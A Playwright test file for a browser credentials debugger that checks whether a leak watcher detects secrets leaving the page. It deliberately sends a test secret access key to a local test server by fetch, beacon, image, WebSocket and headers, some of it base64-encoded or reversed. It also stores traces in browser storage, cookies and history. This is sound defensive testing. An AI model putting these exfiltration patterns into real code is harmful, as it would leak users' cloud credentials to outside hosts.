import { test, expect, type BrowserContext, type Page } from '@playwright/test'
import { mintCredentials, type TestCredentials } from './credentials.ts'
import { findKept, noteTitles } from './kept.ts'
import { startAnswering } from './servers.ts'
import { watchContext, type Watch } from './watch.ts'

/**
 * The two promises that stand beside every other flow are broken here on purpose, each in one way, so that it is seen
 * that they would have been heard. These tests use Playwright's own fixtures and ask the promises themselves.
 */
async function opened(
  context: BrowserContext,
  page: Page,
  origin: string,
): Promise<{ readonly watch: Watch; readonly credentials: TestCredentials }> {
  const watch = watchContext(context, origin)
  await noteTitles(page)
  const credentials = await mintCredentials()
  watch.keepSecret(credentials)
  await page.goto('./')
  await page.locator('html[data-parts="loaded"]').waitFor()
  watch.loaded()
  expect(watch.findings()).toEqual([])
  expect(await findKept(page, [])).toEqual([])
  return { watch, credentials }
}

const LEAKS: readonly (readonly [string, (to: string, secret: string) => void, RegExp])[] = [
  ['a call to another host', (to) => void fetch(to, { mode: 'no-cors' }), /^fetch to/],
  ['a beacon', (to) => void navigator.sendBeacon(to), /^ping to/],
  ['a picture', (to) => void (new Image().src = to), /^image to/],
  [
    'a socket',
    (to) => void new WebSocket(to.replace('http', 'ws')),
    /^websocket to|Content Security/,
  ],
  ['a word to the own host', () => void fetch('./robots.txt'), /^fetch to/],
  [
    'the secret in a URL, in base64',
    (to, secret) => void fetch(`${to}?${btoa(`a${secret}`)}`, { mode: 'no-cors' }),
    /^secret in the URL.*base64$/,
  ],
  [
    'the secret in a body, in percent',
    (to, secret) =>
      void fetch(to, { method: 'POST', mode: 'no-cors', body: encodeURIComponent(`/${secret}`) }),
    /^secret in the body/,
  ],
  [
    'the secret in a body, reversed',
    (to, secret) =>
      void fetch(to, {
        method: 'POST',
        mode: 'no-cors',
        body: Array.from(secret).toReversed().join(''),
      }),
    /^secret in the body.*reversed$/,
  ],
  [
    'half of the secret in a header',
    (to, secret) => void fetch(to, { headers: { 'x-note': secret.slice(0, 20) } }).catch(() => {}),
    /^secret in header x-note, plain$/,
  ],
  [
    'the secret in the console',
    (_, secret) => console.log(`read ${secret}`),
    /^secret in the console/,
  ],
]

for (const [name, leak, heard] of LEAKS) {
  test(`heard: ${name}`, async ({ context, page, baseURL }) => {
    const { watch, credentials } = await opened(context, page, baseURL ?? '')
    const server = await startAnswering('an empty body')
    if (/secret/.test(name)) watch.mayCall(server.host)
    await page.evaluate(
      `(${leak.toString()})(${JSON.stringify(server.url)}, ${JSON.stringify(credentials.secretAccessKey)})`,
    )
    await expect.poll(() => watch.findings().some((finding) => heard.test(finding))).toBe(true)
    expect(watch.findings().join()).not.toContain(credentials.secretAccessKey.slice(4, 24))
    await server.close()
  })
}

const TRACES: readonly (readonly [string, (secret: string) => unknown, RegExp])[] = [
  ['local storage', (secret) => localStorage.setItem('paste', secret), /^localStorage paste$/],
  [
    'one word more among the preferences',
    () =>
      localStorage.setItem(
        'sts-debugger.preferences',
        '{"theme":"dark","lastRegion":null,"account":"111122223333"}',
      ),
    /^localStorage sts-debugger.preferences$/,
  ],
  [
    'session storage',
    (secret) => sessionStorage.setItem('paste', secret),
    /^sessionStorage paste$/,
  ],
  [
    'a database',
    () => new Promise((resolve) => (indexedDB.open('kept').onsuccess = resolve)),
    /^database kept$/,
  ],
  ['a cache', () => caches.open('kept'), /^cache kept$/],
  ['a cookie', () => (document.cookie = 'kept=1'), /cookie/],
  ['the address', () => history.replaceState(null, '', '#kept'), /^something in the address$/],
  ['the history', () => history.replaceState({ kept: 1 }, ''), /^the state of the history$/],
  ['the name of the window', () => (window.name = 'kept'), /^the name of the window$/],
  ['a title that names the account', () => (document.title = '111122223333'), /^a title with more/],
  [
    'a title that was there for a moment',
    async () => {
      const before = document.title
      document.title = '42:00 · minji'
      await new Promise((resolve) => requestAnimationFrame(resolve))
      document.title = before
    },
    /^a title with more/,
  ],
  [
    'a violation of the policy',
    () => void (new Image().src = 'https://example.com/'),
    /^violation of img-src$/,
  ],
]

for (const [name, leave, found] of TRACES) {
  test(`found: ${name}`, async ({ context, page, baseURL }) => {
    const { credentials } = await opened(context, page, baseURL ?? '')
    await page.evaluate(leave, credentials.secretAccessKey)
    await expect
      .poll(async () => (await findKept(page, [])).some((each) => found.test(each)))
      .toBe(true)
  })
}
